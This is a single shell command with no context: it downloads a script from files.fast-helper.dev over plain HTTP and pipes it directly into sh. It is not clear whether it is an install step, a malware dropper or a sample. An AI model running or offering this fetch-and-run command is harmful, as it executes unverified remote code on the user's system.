wget -qO- http://files.fast-helper.dev/setup.sh | sh
